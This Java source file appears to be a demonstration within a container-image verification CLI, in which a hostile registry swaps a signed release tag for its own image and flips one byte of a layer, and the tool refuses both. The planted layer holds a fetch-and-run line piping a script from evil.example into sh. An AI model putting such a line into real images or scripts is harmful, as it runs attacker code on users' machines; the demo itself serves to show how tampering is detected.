package dev.assay.cli;

import dev.assay.bytes.Code;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/** The registry is the attacker: bytes of a layer, and a tag. */
final class DemoRegistryAttack {

  private final Stage stage;
  private final DemoFiles files;
  private final DemoAttacks attacks;

  DemoRegistryAttack(Stage stage, DemoFiles files, DemoAttacks attacks) {
    this.stage = stage;
    this.files = files;
    this.attacks = attacks;
  }

  void run() throws IOException {
    stage.title("the release, signed, attested, verified under its tag");
    String good = attacks.image("1.0", "1.0");
    attacks.sign("release.key", good);
    attacks.attest(good, attacks.honest());
    String tag = attacks.registry() + "/pay:1.0";
    attacks.accepted(tag);
    stage.title("the attack: the registry moves the tag to an image of its own");
    files.write("evil/opt/pay/bin/pay", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n");
    stage.quietly(0, "image", "create", tag, "--layer", "base", "--layer", "evil");
    attacks.refused(Code.NO_SIGNATURE, tag);
    stage.title("and, for those who name the digest, changes one byte of a layer");
    changeOneByte(stage);
    attacks.refused(Code.DIGEST_MISMATCH, good);
  }

  /** Changes one byte in the middle of the largest blob of the registry's storage. */
  static void changeOneByte(Stage stage) throws IOException {
    Path layer = largestBlob(stage.path("registry"));
    long middle = Files.size(layer) / 2;
    stage.say(
        "  $ printf X | dd of="
            + stage.folder().relativize(layer)
            + " bs=1 seek="
            + middle
            + " conv=notrunc");
    try (RandomAccessFile file = new RandomAccessFile(layer.toFile(), "rw")) {
      file.seek(middle);
      int before = file.read();
      file.seek(middle);
      file.write(before == 'X' ? 'Y' : 'X');
    }
  }

  private static Path largestBlob(Path storage) throws IOException {
    try (Stream<Path> all = Files.walk(storage)) {
      List<Path> blobs =
          all.filter(Files::isRegularFile)
              .filter(f -> f.getFileName().toString().matches("[0-9a-f]{64}|data"))
              .toList();
      return blobs.stream()
          .max(Comparator.comparingLong(f -> f.toFile().length()))
          .orElseThrow(() -> new IOException("no blob in " + storage));
    }
  }
}
